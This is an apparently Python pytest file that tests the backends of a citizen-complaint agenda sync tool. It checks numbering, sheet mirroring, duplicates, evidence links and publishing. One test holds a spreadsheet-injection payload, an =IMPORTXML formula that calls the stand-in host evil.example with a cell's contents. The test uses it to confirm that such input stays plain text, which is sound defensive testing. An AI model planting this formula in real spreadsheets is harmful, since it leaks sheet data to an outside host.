"""The backend contract: the same behaviour on the in-memory backend, the local backend
and on Google (real client libraries against the loopback stand-in) — through the engine,
and method by method for what the engine alone does not show (a read's readers, a write
that makes a tab, evidence, publishing)."""

from __future__ import annotations

import io
from collections.abc import Iterator, Sequence
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from PIL import Image

from siapmas_sync.backends.base import Backend
from siapmas_sync.core.kendali_sheet import KENDALI_TAB
from siapmas_sync.core.models import CellUpdate, Submission
from siapmas_sync.core.sheetplan import BUKU_AGENDA_COLUMNS, BUKU_AGENDA_TAB, TablePlan, cell_text

from .conftest import WIB, Clock
from .worlds import World, open_world, rows_as_dicts

T0 = datetime(2026, 11, 27, 9, 0, tzinfo=WIB)
KRON = "Jalan rusak dan berlubang di Desa Jatirejo sejak Oktober 2026; dua pengendara jatuh malam hari."


BACKENDS = ["memory", "local", "google"]


@pytest.fixture
def db_url(ledger_url: str | None) -> str | None:
    return ledger_url  # every test on SQLite and on PostgreSQL


@pytest.fixture(params=BACKENDS)
def world(request: pytest.FixtureRequest, tmp_path: Path, clock: Clock, db_url: str | None) -> Iterator[World]:
    with open_world(request.param, tmp_path, clock, db_url=db_url) as w:
        yield w


def response(minutes: int, nama: str, kron: str = KRON, bukti: str = "") -> list[object]:
    return [T0 + timedelta(minutes=minutes), nama, "0812-3456-7890", f"{nama.lower()}@example.com", kron, bukti]


def agenda_by_name(world: World) -> dict[str, str]:
    return {r["Nama"]: r["No. Agenda"] for r in world.responses() if r.get("Nama")}


def test_new_responses_are_numbered_and_mirrored(world: World):
    world.add_responses([response(0, "Ani"), response(10, "Budi", "Pupuk langka di Kecamatan Dawarblandong, petani tidak bisa tanam padi.")])
    report = world.engine().cycle()
    assert report.new == ["0001/SIAPMAS/2026", "0002/SIAPMAS/2026"]
    rows = {r["Nama"]: r for r in world.responses()}
    assert rows["Ani"]["No. Agenda"] == "0001/SIAPMAS/2026" and rows["Ani"]["Tahap"] == "TERAGENDA"
    assert rows["Budi"]["Diteruskan ke (usulan)"] == "Komisi II (usulan)"
    buku = rows_as_dicts(world.tab("Buku Agenda"))
    assert [b["No. Agenda"] for b in buku] == report.new
    assert [k["No. Agenda"] for k in rows_as_dicts(world.tab(KENDALI_TAB))] == report.new
    assert {r["Peristiwa"] for r in rows_as_dicts(world.tab("Riwayat"))} == {"DITERIMA", "TERAGENDA"}


def test_a_second_cycle_with_no_new_input_writes_nothing(world: World):
    world.add_responses([response(0, "Ani")])
    world.engine().cycle()
    before = {t: world.tab(t) for t in (world.response_tab, "Buku Agenda", "Riwayat", KENDALI_TAB)}
    report = world.engine().cycle()
    assert report.new == [] and report.cells_written == 0
    assert {t: world.tab(t) for t in before} == before


def test_rows_sorted_by_staff_keep_their_numbers(world: World):
    world.add_responses([response(0, "Ani"), response(5, "Budi")])
    world.engine().cycle()
    world.reverse_responses()
    world.add_responses([response(30, "Citra")])
    report = world.engine().cycle()
    assert report.new == ["0003/SIAPMAS/2026"]
    assert agenda_by_name(world) == {"Budi": "0002/SIAPMAS/2026", "Ani": "0001/SIAPMAS/2026", "Citra": "0003/SIAPMAS/2026"}


def test_inserted_columns_and_renamed_header_case(world: World):
    world.add_responses([response(0, "Ani")])
    world.engine().cycle()
    world.insert_column(2, "Catatan Staf")
    values = world.tab(world.response_tab)
    values[0] = [("TAHAP" if v == "Tahap" else v) for v in values[0]]
    world.put_tab(world.response_tab, values)
    world.add_responses([response(10, "Budi")])
    report = world.engine().cycle()
    assert report.new == ["0002/SIAPMAS/2026"]
    header = world.tab(world.response_tab)[0]
    assert header.count("No. Agenda") == 1 and "Tahap" not in header and "TAHAP" in header
    rows = {r["Nama"]: r for r in world.responses()}
    assert rows["Budi"]["TAHAP"] == "TERAGENDA" and rows["Ani"]["No. Agenda"] == "0001/SIAPMAS/2026"


def test_formula_looking_citizen_text_stays_text(world: World):
    hostile = '=IMPORTXML("http://evil.example/?q="&A1, "//a")'
    world.add_responses([response(0, "Ani", hostile + " jalan rusak di Desa Kemlagi sejak Oktober 2026")])
    world.add_responses([response(5, "+62 Budi", "@SUM(1+1) sampah menumpuk di pasar Mojosari sejak 2 minggu")])
    report = world.engine().cycle()
    assert len(report.new) == 2
    buku = rows_as_dicts(world.tab("Buku Agenda"))
    assert buku[1]["Pengirim"] == "+62 Budi"
    assert world.cell_is_text("Buku Agenda", "+62 Budi")
    assert any(isinstance(b["Isi Ringkas"], str) and b["Isi Ringkas"].startswith("=IMPORTXML") for b in buku)
    assert world.cell_is_text("Buku Agenda", buku[0]["Isi Ringkas"])


def test_duplicate_and_bad_rows(world: World):
    world.add_responses([response(0, "Ani"), response(3, "Ani"), ["kemarin", "Budi", "", "", KRON, ""], response(9, "Citra")])
    report = world.engine().cycle()
    assert report.new == ["0001/SIAPMAS/2026", "0002/SIAPMAS/2026"]
    assert len(report.duplicates) == 1 and len(report.row_errors) == 1
    tahap = [r["Tahap"] for r in world.responses()]
    assert tahap == ["TERAGENDA", "DUPLIKAT", "PERIKSA BARIS", "TERAGENDA"]


def test_kendali_edits_applied_or_refused_and_restored(world: World):
    world.add_responses([response(0, "Ani"), response(5, "Budi")])
    world.engine().cycle()
    world.edit(KENDALI_TAB, "0001/SIAPMAS/2026", Tahap="PARAF KASUBAG TU", Oleh="Kasubag TU")
    world.edit(KENDALI_TAB, "0002/SIAPMAS/2026", Tahap="SELESAI")
    report = world.engine().cycle()
    assert sorted(r.accepted for r in report.steps) == [False, True]
    k = {r["No. Agenda"]: r for r in rows_as_dicts(world.tab(KENDALI_TAB))}
    assert k["0001/SIAPMAS/2026"]["Tahap"] == "PARAF KASUBAG TU" and k["0001/SIAPMAS/2026"]["Pesan"].startswith("✓")
    assert k["0002/SIAPMAS/2026"]["Tahap"] == "TERAGENDA" and k["0002/SIAPMAS/2026"]["Pesan"].startswith("✗")
    rows = {r["Nama"]: r for r in world.responses()}
    assert rows["Ani"]["Tahap"] == "PARAF KASUBAG TU"  # the response sheet mirrors the stage
    assert world.engine().cycle().steps == []


def test_numbering_across_the_wib_new_year(world: World):
    world.clock.now = datetime(2027, 1, 1, 7, 45, tzinfo=WIB)  # time machine: New Year's morning
    eve = datetime(2026, 12, 31, 23, 59, tzinfo=WIB)
    world.add_responses([
        [eve, "A", "081234567890", "", KRON, ""],
        [eve + timedelta(seconds=90), "B", "081234567890", "", KRON + " B", ""],
    ])
    assert world.engine().cycle().new == ["0001/SIAPMAS/2026", "0001/SIAPMAS/2027"]


# --- method by method ---------------------------------------------------------------------

class CountingReader:
    """A reader that keeps only the header and a row count (as the engine's fingerprints do)."""

    def __init__(self) -> None:
        self.seen: tuple[list[str], int] = ([], 0)

    def header(self, header: Sequence[object]) -> None:
        self.seen = ([cell_text(h) for h in header], 0)

    def row(self, row: Sequence[object]) -> None:
        self.seen = (self.seen[0], self.seen[1] + 1)

    def result(self) -> tuple[list[str], int]:
        return self.seen


class Counting:
    def responses(self, title: str, sheet_tz: object) -> CountingReader:
        return CountingReader()

    def register(self, title: str) -> CountingReader:
        return CountingReader()


def test_read_gives_each_tab_through_its_reader_and_none_for_a_missing_tab(world: World):
    world.add_responses([response(0, "Ani"), response(5, "Budi")])
    backend: Backend = world.engine().backend
    world.engine().cycle()
    snap = backend.read([BUKU_AGENDA_TAB, "Tab Yang Tidak Ada"], Counting())
    assert snap.tabs["Tab Yang Tidak Ada"] is None
    assert snap.tabs[BUKU_AGENDA_TAB] == (list(BUKU_AGENDA_COLUMNS), 2)
    header, rows = snap.responses
    assert rows == 2 and header[:2] == ["Timestamp", "Nama"] and "No. Agenda" in header
    full = backend.read([BUKU_AGENDA_TAB])  # default readers: every cell
    assert [cell_text(r[header.index("Nama")]) for r in full.responses.rows] == ["Ani", "Budi"]


def test_write_makes_a_missing_tab_grows_it_and_stores_text_raw(world: World):
    backend: Backend = world.engine().backend
    backend.read(["Uji"])
    updates = [CellUpdate("Uji", 0, 0, "Kolom A"), CellUpdate("Uji", 0, 1, "Kolom B"),
               CellUpdate("Uji", 1, 0, "satu"), CellUpdate("Uji", 2, 1, "=1+1")]
    backend.write([TablePlan("Uji", ["Kolom A", "Kolom B"], True, updates)])
    table = backend.read(["Uji"]).tabs["Uji"]
    assert table.header == ["Kolom A", "Kolom B"]
    assert [[cell_text(v) for v in r] for r in table.rows] == [["satu"], ["", "=1+1"]]
    assert world.cell_is_text("Uji", "=1+1")  # a formula-looking text is kept as text
    backend.write([TablePlan("Uji", ["Kolom A", "Kolom B"], False, [CellUpdate("Uji", 1, 0, "dua")])])
    assert [cell_text(v) for v in backend.read(["Uji"]).tabs["Uji"].rows[0]] == ["dua"]


def jpeg() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (4, 3), (200, 30, 30)).save(buf, "JPEG")
    return buf.getvalue()


@pytest.mark.parametrize("kind", BACKENDS)
def test_evidence_found_by_its_drive_link_and_a_missing_one_is_a_finding(kind: str, tmp_path: Path, clock: Clock):
    data = jpeg()
    with open_world(kind, tmp_path, clock, evidence={"1FotoJalanRusak.jpg": data}) as world:
        found = f"https://drive.google.com/open?id={world.files['1FotoJalanRusak.jpg']}"
        missing = "https://drive.google.com/open?id=1TidakAdaDiFolder"
        sub = Submission("k1", "h1", T0, "Ani", "+6281234567890", "", KRON, (found, missing))
        evidence, findings = world.engine().backend.find_evidence([sub])["k1"]
    assert [e.url for e in evidence] == [found, missing]
    assert evidence[0].found and evidence[0].name == "1FotoJalanRusak.jpg"
    assert evidence[0].size == len(data) and evidence[0].mime == "image/jpeg"
    assert not evidence[1].found
    assert [f.code for f in findings] == ["bukti_hilang"] and missing in findings[0].message


def test_publish_gives_one_stable_link_per_file(world: World, tmp_path: Path):
    files = [tmp_path / "0001" / "lembar-aduan.pdf", tmp_path / "0002" / "lembar-aduan.pdf"]
    for f in files:
        f.parent.mkdir()
        f.write_bytes(b"%PDF-1.4 " + f.parent.name.encode())
    backend: Backend = world.engine().backend
    links = backend.publish(files)
    assert len(links) == 2 and all(links) and links[0] != links[1]
    assert backend.publish(files[1:]) == links[1:]  # published again: the same link, no copy
